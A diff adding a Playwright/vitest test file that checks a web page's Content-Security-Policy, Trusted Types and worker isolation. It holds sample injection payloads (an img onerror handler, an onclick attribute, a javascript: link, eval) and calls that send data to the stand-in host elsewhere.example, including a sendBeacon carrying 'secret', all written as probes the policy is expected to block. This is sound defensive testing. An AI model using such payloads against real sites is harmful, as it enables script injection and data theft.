@@ -1,0 +1,189 @@
+import type { Page, Route } from 'playwright';
+import { expect, inject, test } from 'vitest';
+import { waitForImagesSeen, type WatchedPage } from '../support/open-page';
+import { pageVisitor } from '../support/with-page';
+
+const withPage = pageVisitor();
+
+/** Code that the server itself hands out: what the page's own scripts may do, and not what the test's tools may. */
+async function runOnPage(page: Page, code: string): Promise<unknown> {
+  await page.route('**/probe.js', (route) =>
+    route.fulfill({ contentType: 'text/javascript', body: `globalThis.probed = (async () => { ${code} })();` }),
+  );
+  return page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.src = './probe.js';
+    await new Promise((resolve, reject) => {
+      script.addEventListener('load', resolve);
+      script.addEventListener('error', reject);
+      document.head.append(script);
+    });
+    return (globalThis as unknown as { probed: unknown }).probed;
+  });
+}
+
+/** The page without the headers of its server: what a host gives that sends files and nothing else. */
+async function withoutHeaders({ page }: WatchedPage): Promise<void> {
+  const bare = async (route: Route): Promise<void> => {
+    const response = await route.fetch();
+    const { 'content-type': type = '' } = response.headers();
+    await route.fulfill({ response, headers: { 'content-type': type } });
+  };
+  // A page that is closed meanwhile wants no answer any more.
+  await page.route('**/*', (route) => bare(route).catch(() => undefined));
+  await page.reload();
+}
+
+const HOSTS: readonly (readonly [string, (opened: WatchedPage) => Promise<void>])[] = [
+  ['from its own server', () => Promise.resolve()],
+  ['from a host that sends no headers', withoutHeaders],
+];
+
+for (const [from, prepare] of HOSTS) {
+  test(`${from}: the page trains, and a script put into it does not run`, async () => {
+    await withPage(async (opened) => {
+      await prepare(opened);
+      const { page, errors } = opened;
+      await waitForImagesSeen(page, 1000);
+      expect(errors).toEqual([]);
+      const ran = await runOnPage(
+        page,
+        `const script = document.createElement('script');
+         const refused = [];
+         try { script.text = 'globalThis.ran = true'; } catch (error) { refused.push('text: ' + error.name); }
+         script.append('globalThis.ran = true');
+         document.head.append(script);
+         document.body.append(document.createElement('p'));
+         try { document.body.lastChild.innerHTML = '<img src=x onerror="globalThis.ran = true">'; }
+         catch (error) { refused.push('innerHTML: ' + error.name); }
+         const button = document.createElement('button');
+         try { button.setAttribute('onclick', 'globalThis.ran = true'); }
+         catch (error) { refused.push('onclick: ' + error.name); }
+         button.click();
+         const link = document.createElement('a');
+         link.href = 'javascript:void(globalThis.ran = true)';
+         document.body.append(link);
+         link.click();
+         await new Promise((resolve) => setTimeout(resolve, 200));
+         return { ran: globalThis.ran ?? false, refused };`,
+      );
+      expect(ran).toEqual({ ran: false, refused: ['text: TypeError', 'innerHTML: TypeError', 'onclick: TypeError'] });
+    });
+  });
+
+  test(`${from}: text is not made into code, and WebAssembly is`, async () => {
+    await withPage(async (opened) => {
+      await prepare(opened);
+      const made = await runOnPage(
+        opened.page,
+        `const outcome = (run) => { try { run(); return 'ran'; } catch (error) { return error.name; } };
+         return {
+           eval: outcome(() => (0, eval)('1')),
+           Function: outcome(() => new Function('return 1')()),
+           worker: outcome(() => new Worker('https://elsewhere.example/worker.js')),
+           blobWorker: outcome(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
+           wasm: (await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))) instanceof WebAssembly.Module,
+         };`,
+      );
+      expect(made).toEqual({
+        eval: 'EvalError',
+        Function: 'EvalError',
+        worker: 'TypeError',
+        blobWorker: 'TypeError',
+        wasm: true,
+      });
+    });
+  });
+
+  test(`${from}: nothing is asked of another server, neither by a request nor by a picture nor by a form`, async () => {
+    await withPage(async (opened) => {
+      await prepare(opened);
+      const refused = await runOnPage(
+        opened.page,
+        `const refused = new Set();
+         addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
+         await fetch('https://elsewhere.example/').then(() => refused.add('fetched'), () => undefined);
+         try { new WebSocket('wss://elsewhere.example/').onopen = () => refused.add('open'); } catch {}
+         navigator.sendBeacon('https://elsewhere.example/', 'secret');
+         for (const [tag, attribute] of [['img', 'src'], ['iframe', 'src'], ['video', 'src']]) {
+           const element = document.createElement(tag);
+           element[attribute] = 'https://elsewhere.example/';
+           document.body.append(element);
+         }
+         const sheet = document.createElement('link');
+         sheet.rel = 'stylesheet';
+         sheet.href = 'https://elsewhere.example/';
+         const style = document.createElement('style');
+         style.textContent = 'body { background: red }';
+         const base = document.createElement('base');
+         base.href = 'https://elsewhere.example/';
+         document.head.append(sheet, style, base);
+         const form = document.createElement('form');
+         form.action = 'https://elsewhere.example/';
+         document.body.append(form);
+         form.submit();
+         await new Promise((resolve) => setTimeout(resolve, 500));
+         return [...refused].sort();`,
+      );
+      expect(refused).toEqual([
+        'base-uri',
+        'connect-src',
+        'form-action',
+        'frame-src',
+        'img-src',
+        'media-src',
+        'style-src-elem',
+      ]);
+    });
+  });
+}
+
+test('the policy is the same in the page and in the headers of the page and of its workers', async () => {
+  await withPage(async ({ page }) => {
+    await waitForImagesSeen(page, 100);
+    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    const worker = page.workers().find((one) => one.url().includes('train.worker'))!;
+    for (const address of [inject('pageUrl'), worker.url()]) {
+      const { headers } = await fetch(address);
+      expect(headers.get('content-security-policy')).toBe(policy);
+      expect(headers.get('x-content-type-options')).toBe('nosniff');
+    }
+    expect(policy).not.toMatch(/'unsafe-|https?:|\*/);
+  });
+});
+
+test('a worker asks no other server and makes no code of text either', async () => {
+  await withPage(async ({ page }) => {
+    await page.route(/train\.worker.*\.js/, async (route) => {
+      const response = await route.fetch();
+      const probe = `
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => (globalThis.refused ??= []).push(effectiveDirective));
+        fetch('https://elsewhere.example/').catch(() => undefined);
+        try { (0, eval)('1'); globalThis.evaluated = true; } catch {}
+      `;
+      await route.fulfill({ response, body: `${await response.text()};${probe}` });
+    });
+    await page.reload();
+    await waitForImagesSeen(page, 100);
+    const worker = page.workers().find((one) => one.url().includes('train.worker'))!;
+    const seen = await worker.evaluate(() => {
+      const { refused, evaluated } = globalThis as { refused?: string[]; evaluated?: boolean };
+      return { refused: refused?.toSorted(), evaluated: evaluated ?? false };
+    });
+    expect(seen).toEqual({ refused: ['connect-src', 'require-trusted-types-for'], evaluated: false });
+  });
+});
+
+test('a chosen theme is there before anything is drawn', async () => {
+  await withPage(
+    async ({ page }) => {
+      await page.evaluate(() => localStorage.setItem('theme', 'dark'));
+      // The scripts of the page never come: only what index.html itself holds back is awaited.
+      await page.route(/assets\/.*\.js/, (route) => route.abort());
+      await page.reload({ waitUntil: 'commit' });
+      await page.locator('.first-paint').first().waitFor();
+      expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark');
+    },
+    { colorScheme: 'light' },
+  );
+});
